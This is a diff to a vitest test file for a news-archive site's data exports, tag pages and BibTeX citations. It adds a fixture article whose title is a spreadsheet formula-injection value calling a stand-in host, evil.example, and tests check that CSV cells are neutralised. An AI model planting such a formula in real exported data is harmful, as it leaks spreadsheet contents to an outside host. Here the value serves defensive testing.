@@ -12,9 +12,11 @@ import { XMLParser } from 'fast-xml-parser';
 import { SyntaxValidator } from 'fast-xml-validator';
 import Papa from 'papaparse';
 import { beforeAll, describe, expect, it } from 'vitest';
+import { recordKey } from '../../src/search/export';
 import { articleText, writeArchive } from '../support/archive';
 import { buildSite } from '../support/build';
 import { fileFor, loadPage } from '../support/dist';
+import { readBibtex, readCsv, spreadsheetRuns } from '../support/readers';
 import { parseCoins, readEmbeddedMetadata } from '../support/zotero';
 
 const SITE = 'https://news.example.org';
@@ -25,6 +27,10 @@ const CALL = '/articles/2021/05/head-of-state-had-telephone-talk-with-tajik-pres
 /** An article that records only its source: no address, licence, byline or provenance. */
 const BARE = '/articles/2023/06/bare-statement/';
 const TITLE = 'Tokayev and Putin discuss "energy, trade & water" <today>';
+/** An article whose every text would run in a spreadsheet or break a BibTeX entry, with tags of every kind. */
+const HOSTILE = '/articles/2022/03/hostile/';
+const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Click") {draft';
+const HOSTILE_TAGS = ['C++', 'C#', 'c', '中文', '…'];
 
 let dist = '';
 let output = '';
@@ -44,6 +50,14 @@ beforeAll(() => {
         countries: '\n  - kazakhstan\n  - russia',
         tags: '\n  - Energy',
         provenance: `\n  sha256: ${SHA}\n  importer: 1.4.0`,
+      }),
+      '2022/03/hostile.md': articleText({
+        title: `'${HOSTILE_TITLE}'`,
+        summary: '\'+1 and -2: a "quoted" summary.\'',
+        published: "'2022-03-02'",
+        source: '\n  name: "-Agency"\n  url: https://ru.sputnik.kz/20220302/токаев.html',
+        author: "'@handle'",
+        tags: `\n${HOSTILE_TAGS.map((t) => `  - '${t}'`).join('\n')}`,
       }),
       '2023/06/bare-statement.md': articleText({
         published: "'2023-06-01'",
@@ -244,10 +258,29 @@ describe('open data', () => {
     expect(bare.data[0]).toMatchObject({ source_url: '', licence: '', author: '', tags: '' });
   });
 
+  it('writes CSV that two parsers read with the header first, and no cell a spreadsheet runs', () => {
+    const text = dataText('articles-2022.csv');
+    expect(text.startsWith('\uFEFFid,url,title,')).toBe(true);
+    const [row, ...rest] = readCsv(text);
+    expect(rest).toEqual([]);
+    for (const [column, cell] of Object.entries(row!)) expect(spreadsheetRuns(cell), column).toBe(false);
+    expect(row).toMatchObject({
+      title: `'${HOSTILE_TITLE}`,
+      summary: '\'+1 and -2: a "quoted" summary.',
+      author: "'@handle",
+      source: "'-Agency",
+      // The address as the schema writes it: percent-encoded, as the JSON Schema requires.
+      source_url: 'https://ru.sputnik.kz/20220302/%D1%82%D0%BE%D0%BA%D0%B0%D0%B5%D0%B2.html',
+      tags: HOSTILE_TAGS.join('; '),
+    });
+    const json = JSON.parse(dataText('articles-2022.jsonl'));
+    expect(json).toMatchObject({ title: HOSTILE_TITLE, author: '@handle', tags: HOSTILE_TAGS });
+  });
+
   it('writes JSON Lines rows that validate against the published JSON Schema', () => {
     const ajv = new Ajv({ allErrors: true });
     const validate = ajv.compile(JSON.parse(dataText('articles.schema.json')));
-    for (const year of [2021, 2023, 2024, 2025]) {
+    for (const year of [2021, 2022, 2023, 2024, 2025]) {
       const lines = dataText(`articles-${year}.jsonl`).split('\n');
       expect(lines.pop()).toBe('');
       expect(lines).toHaveLength(1);
@@ -284,13 +317,42 @@ describe('open data', () => {
     const columns = $('table tbody th code')
       .map((_, c) => $(c).text())
       .get();
-    const header = dataText('articles-2021.csv').split('\r\n')[0]!.split(',');
+    const header = Object.keys(readCsv(dataText('articles-2021.csv'))[0]!);
     expect(columns).toEqual(header);
   });
 
   it('is not indexed by the search', () => {
-    // Four article pages: the two seeds' and the two above; no data page.
-    expect(output).toMatch(/\[search index\] 4 article pages read/);
+    // Five article pages: the two seeds' and the three above; no data page.
+    expect(output).toMatch(/\[search index\] 5 article pages read/);
+  });
+});
+
+describe('tags and citations of any text', () => {
+  it('give each tag a page of its own, titled as written, however it is written', () => {
+    const pages = HOSTILE_TAGS.map((tag) => {
+      const link = page(HOSTILE)(`a:contains("#${tag}")`).filter(
+        (_, a) => page(HOSTILE)(a).text() === `#${tag}`,
+      );
+      return link.attr('href') ?? '';
+    });
+    expect(new Set(pages).size).toBe(HOSTILE_TAGS.length);
+    expect(pages.slice(0, 2)).toEqual([`${BASE}/tags/c-plus-plus/`, `${BASE}/tags/c-sharp/`]);
+    for (const [i, href] of pages.entries()) {
+      expect(href).toMatch(/^\/archive\/tags\/[a-z0-9-]+\/$/);
+      expect(page(href.slice(BASE.length))('h1').text()).toContain(HOSTILE_TAGS[i]!);
+    }
+  });
+
+  it('cite in BibTeX that a parser reads whole, with the key the search’s export gives the article', () => {
+    const bibtex = page(HOSTILE)('.citation details')
+      .filter((_, d) => page(HOSTILE)(d).find('summary').text() === 'BibTeX')
+      .find('pre')
+      .text();
+    const [entry] = readBibtex(bibtex);
+    expect(entry?.fields['title']).toBe(HOSTILE_TITLE);
+    expect(entry?.fields['date']).toBe('2022-03-02');
+    expect(entry?.key).toBe(recordKey({ url: url(HOSTILE), published: '2022-03-02' }));
+    expect(bibtex).not.toMatch(/month\s*=/);
   });
 });
 
